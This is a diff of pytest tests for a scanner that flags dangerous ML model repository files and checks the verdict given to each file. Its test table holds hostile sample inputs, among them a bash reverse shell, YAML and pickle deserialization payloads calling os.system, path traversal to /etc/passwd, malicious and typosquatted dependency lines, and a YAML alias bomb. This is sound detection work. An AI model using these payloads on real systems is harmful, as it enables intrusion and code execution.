@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import hashlib
+import io
 import json
+import tarfile
 from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
 
 from scanner.checks.remote_code import CHECK
+from scanner.file_check import FileVerdict
 from scanner.findings import Finding, Outcome, Severity
 from tests.assets import make_file_assets as assets
 from tests.scanner.check_runs import context_of, findings_of
@@ -49,7 +52,7 @@ def test_dangerous_call_is_named_with_file_and_line(name: str, tmp_path: Path) -
         ("decoded", Severity.CRITICAL),
         ("requests", Severity.HIGH),
         ("pickle", Severity.HIGH),
-        ("open_write", Severity.MEDIUM),
+        ("open_write", Severity.HIGH),
         ("environ", Severity.LOW),
     ],
 )
@@ -64,14 +67,15 @@ def test_severity_follows_the_kind(name: str, severity: Severity, tmp_path: Path
 def test_sentence_is_plain(tmp_path: Path) -> None:
     found = failed(findings(tmp_path, {"modeling_x.py": CODE["plain"][2].encode()}), "process")
     assert [each.message for each in found] == [
-        "modeling_x.py line 2: calls subprocess.run, which starts a program"
+        "modeling_x.py line 2: calls subprocess.run, which starts a program, as soon as it is imported"
     ]
 
 
 def test_harmless_model_code_fails_for_being_code_only(tmp_path: Path) -> None:
     found = findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": HARMLESS})
     assert [(each.outcome, each.rule, each.severity) for each in found] == [
-        (Outcome.FAIL, "auto-map", Severity.HIGH)
+        (Outcome.FAIL, "auto-map", Severity.HIGH),
+        (Outcome.FAIL, "code-by-name", Severity.MEDIUM),
     ]
 
 
@@ -160,14 +164,14 @@ def test_relative_imports_are_followed(tmp_path: Path) -> None:
     }
     found = findings(tmp_path, files)
     critical = {each.locations[0].path for each in found if each.severity is Severity.CRITICAL}
-    assert critical == {"deeper/inner.py", "other.py", "package/thing.py"}
-    assert [each.severity for each in failed(found, "network")] == [Severity.HIGH]
+    assert critical == {"config.json", "deeper/inner.py", "other.py", "package/thing.py", "plain.py"}
+    assert len(failed(found, "runs-dangerous-code")) == 4
 
 
 def test_import_of_a_missing_file_is_reported(tmp_path: Path) -> None:
     found = failed(
         findings(tmp_path, {"config.json": assets.auto_map(), "modeling_x.py": b"from .gone import f\n"}),
-        "unresolved-code",
+        "missing-import",
     )
     assert [(each.locations[0].line, each.severity) for each in found] == [(1, Severity.LOW)]
 
@@ -282,7 +286,7 @@ def test_ordinary_hydra_target_passes(tmp_path: Path) -> None:
 
 def test_hydra_target_in_the_repository_is_high(tmp_path: Path) -> None:
     files = {"config.yaml": b"_target_: net.Net\n", "net.py": HARMLESS}
-    assert [each.severity for each in failed(findings(tmp_path, files), "target")] == [Severity.HIGH]
+    assert [each.severity for each in failed(findings(tmp_path, files), "target-local")] == [Severity.HIGH]
 
 
 def test_loader_module_of_mlflow_in_the_repository_is_found(tmp_path: Path) -> None:
@@ -291,7 +295,7 @@ def test_loader_module_of_mlflow_in_the_repository_is_found(tmp_path: Path) -> N
         "load_it.py": CODE["plain"][2].encode(),
     }
     found = findings(tmp_path, files)
-    assert failed(found, "target")
+    assert failed(found, "target-local")
     assert failed(found, "process")[0].severity is Severity.CRITICAL
 
 
@@ -371,3 +375,149 @@ def test_many_calls_are_summed_up(tmp_path: Path) -> None:
     found = findings(tmp_path, {"modeling_x.py": source})
     assert len(failed(found, "process")) == 30
     assert "70 more" in failed(found, "further-calls")[0].message
+
+
+ATTACK, READER = FileVerdict.ATTACK, FileVerdict.NEEDS_CLASS_INSTANCE
+PLAIN, UNREAD = FileVerdict.PLAIN_DATA, FileVerdict.NOT_READABLE
+
+
+def verdicts(folder: Path, files: Mapping[str, bytes]) -> dict[str, FileVerdict]:
+    """The worst that is said of each file by itself."""
+    context = context_of(assets.write_all(folder, files))
+    worst: dict[str, FileVerdict] = {}
+    for entry in context.snapshot.files:
+        for item in CHECK.examine_safely(context, entry):
+            assert isinstance(item, Finding)
+            assert item.outcome is Outcome.NOT_RUN or item.locations[0].path == entry.path
+            said = CHECK.verdict_of(item)
+            worst[entry.path] = max(said, worst.get(entry.path, PLAIN), key=lambda each: each.rank)
+    return worst
+
+
+def test_models_side_by_side_are_judged_apart(tmp_path: Path) -> None:
+    files = {
+        "a/config.json": assets.auto_map(),
+        "a/modeling_x.py": HARMLESS,
+        "b/config.json": assets.auto_map(),
+        "b/modeling_x.py": b"from .helper import f",
+        "b/helper.py": CODE["plain"][2].encode(),
+        "c/config.json": CONFIG,
+        "c/helper.py": HARMLESS,
+        "d/config.json": assets.auto_map(),
+        "d/modeling_x.py": b"def (",
+    }
+    assert verdicts(tmp_path, files) == {
+        "a/config.json": READER, "a/modeling_x.py": READER,
+        "b/config.json": ATTACK, "b/modeling_x.py": READER, "b/helper.py": ATTACK,
+        "c/config.json": PLAIN, "c/helper.py": PLAIN,
+        "d/config.json": UNREAD, "d/modeling_x.py": UNREAD,
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "expected"),
+    [
+        ("config.json", b'{"auto_map": {"AutoModel": "../x/evil.M"}}', ATTACK),
+        ("config.json", b'{"auto_map": {"AutoModel": "gone.M"}}', UNREAD),
+        ("config.json", b'{"auto_map": {"AutoModel": "a/b--gone.M"}}', UNREAD),
+        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "os"}}', ATTACK),
+        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "subprocess"}}', ATTACK),
+        ("adapter_config.json", b'{"auto_mapping": {"parent_library": "transformers.models.bert"}}', PLAIN),
+        ("sentence_bert_config.json", b'{"model_args": {"trust_remote_code": true}}', READER),
+        ("modules.json", b'[{"path": "../../x", "type": "sentence_transformers.models.Pooling"}]', ATTACK),
+        ("modules.json", b'[{"path": "1", "type": "gone.Pooling"}]', UNREAD),
+        ("pytorch_model.bin.index.json", b'{"weight_map": {"a": "../../../etc/passwd"}}', ATTACK),
+        ("pytorch_model.bin.index.json", b'{"weight_map": {"a": "pytorch_model-1.bin"}}', PLAIN),
+        ("odd.json", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["x"]}]}', ATTACK),
+        ("odd.json", b'{"\\u005ftarget_": "os.system"}', ATTACK),
+        ("x.yaml", b"a:\n  _target_: builtins.exec\n", ATTACK),
+        ("x.yaml", b"a:\n  _target_: numpy.f2py.compile\n", ATTACK),
+        ("x.yaml", b"a:\n  _target_: hydra.utils.get_method\n  path: os.system\n", ATTACK),
+        ("x.yaml", b"a:\n  class_path: subprocess.Popen\n", ATTACK),
+        ("x.yaml", b"a:\n  target: os.system\n  params: {}\n", ATTACK),
+        ("x.yaml", b"a:\n  target: ldm.models.Diffusion\n  params: {}\n", PLAIN),
+        ("x.yaml", b"a:\n  target: train.csv\n", PLAIN),
+        ("x.yaml", b"a:\n  _target_: somebody.Net\n", READER),
+        ("x.yaml", b"a: !apply:os.system ['x']\n", ATTACK),
+        ("x.yaml", b"a: !new:speechbrain.nnet.Linear\n", PLAIN),
+        ("x.yaml", b"a: !!python/object/new:os.system ['x']\n", ATTACK),
+        ("x.yaml", b"a: !!python/name:torch.float32\n", READER),
+        ("x.yaml", b"a: !!python/tuple [1, 2]\n", PLAIN),
+        ("x.yaml", b"a: !!javax.script.ScriptEngineManager [x]\n", ATTACK),
+        ("x.yaml", b"a: !ruby/object:Gem::Installer {}\n", ATTACK),
+        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", PLAIN),
+        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: subprocess\n", ATTACK),
+        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: gone\n", UNREAD),
+        ("MLmodel", b"flavors:\n  sklearn:\n    pickled_model: ../../x.pkl\n", ATTACK),
+        ("x.yaml", b"a: &a [x, x]\n" + b"".join(
+            b"%c: &%c [%s]\n" % (n + 1, n + 1, b", ".join([b"*%c" % n] * 9)) for n in range(97, 107)
+        ), ATTACK),
+        ("x.yaml", b"a: &a [x, x]\nb: *a\nc: *a\n", PLAIN),
+        ("model_index.json", b'{"unet": ["os", "system"]}', ATTACK),
+        ("modules.json", b'[{"path": "1", "type": "os.system"}]', ATTACK),
+        ("requirements.txt", b"torch\n/tmp/evil.whl\n", ATTACK),
+        ("requirements.txt", b"torch\n-e .\n./local\n", READER),
+        ("kernel.so", b"\x7fELF", UNREAD),
+        ("requirements.txt", b"torch\nevil @ git+https://example.com/evil\n", ATTACK),
+        ("requirements.txt", b"transformers @ git+https://github.com/huggingface/transformers\n", READER),
+        ("requirements.txt", b"--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n", READER),
+        ("requirements.txt", b"--extra-index-url http://10.0.0.1/simple\ntorch\n", ATTACK),
+        ("requirements.txt", b"transfomers==4.0\n", ATTACK),
+        ("requirements.txt", b"torch==2.1\nscikit_learn\ndataset\n# transfomers\nscapy\n", PLAIN),
+        ("environment.yml", b"dependencies:\n  - pip:\n    - evil @ http://example.com/e.whl\n", ATTACK),
+        ("pyproject.toml", b"[project]\ndependencies = ['evil @ https://example.com/e.whl']\n", ATTACK),
+        ("pyproject.toml", b"[project]\ndependencies = ['torch']\n", PLAIN),
+        ("run.sh", b"#!/bin/sh\npython train.py\nrm -rf /var/lib/apt/lists/*\n", PLAIN),
+        ("run.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", ATTACK),
+        ("Dockerfile", b"RUN curl https://sh.rustup.rs | sh\n", READER),
+        ("sitecustomize.py", b"import os\nos.system('x')\n", ATTACK),
+        ("hubconf.py", b"dependencies = ['torch']\n", READER),
+        ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": ["a = 1\\n", "!pip list"]}]}', PLAIN),
+        ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": "exec(bytes.fromhex(\'00\'))"}]}', ATTACK),
+        ("train.py", b"import subprocess\ndef f(): subprocess.run(['x'])\n", READER),
+        ("train.py", b"import torch\nprint(torch.ones(1))\n", PLAIN),
+        ("notes.txt", b"os.system('x')", None),
+        ("tokenizer.json", b"{", None),
+    ],
+)  # fmt: skip
+def test_verdict_of_one_file(name: str, data: bytes, expected: FileVerdict | None, tmp_path: Path) -> None:
+    assert verdicts(tmp_path, {name: data}).get(name) is expected
+
+
+def test_code_of_another_repository_is_read_where_it_lies_beside(tmp_path: Path) -> None:
+    files = {
+        "mine/config.json": assets.auto_map("other/repo--modeling_y.Model"),
+        "other/repo/modeling_y.py": CODE["plain"][2].encode(),
+    }
+    assert verdicts(tmp_path, files)["mine/config.json"] is ATTACK
+    files["other/repo/modeling_y.py"] = HARMLESS
+    assert verdicts(tmp_path / "again", files)["mine/config.json"] is READER
+
+
+def test_folder_of_code_of_mlflow_is_read(tmp_path: Path) -> None:
+    files = {
+        "m/MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc\n    code: code\n",
+        "m/code/anything.py": CODE["plain"][2].encode(),
+    }
+    assert verdicts(tmp_path, files) == {"m/MLmodel": ATTACK, "m/code/anything.py": ATTACK}
+
+
+@pytest.mark.parametrize(("target", "expected"), [("os.system", ATTACK), ("nemo.collections.asr.X", PLAIN)])
+@pytest.mark.parametrize("mode", ["w", "w:gz"])
+def test_configuration_inside_a_nemo_archive_is_read(
+    mode: str, target: str, expected: FileVerdict, tmp_path: Path
+) -> None:
+    data = io.BytesIO()
+    with tarfile.open(fileobj=data, mode=mode) as archive:  # type: ignore[call-overload]
+        for name, text in (
+            ("./weights.ckpt", b"PK"),
+            ("./model_config.yaml", f"_target_: {target}".encode()),
+        ):
+            member = tarfile.TarInfo(name)
+            member.size = len(text)
+            archive.addfile(member, io.BytesIO(text))
+    assert verdicts(tmp_path, {"m.nemo": data.getvalue()}) == {"m.nemo": expected}
+
+
+def test_nemo_archive_that_is_none_is_not_readable(tmp_path: Path) -> None:
+    assert verdicts(tmp_path, {"m.nemo": b"no archive"}) == {"m.nemo": UNREAD}
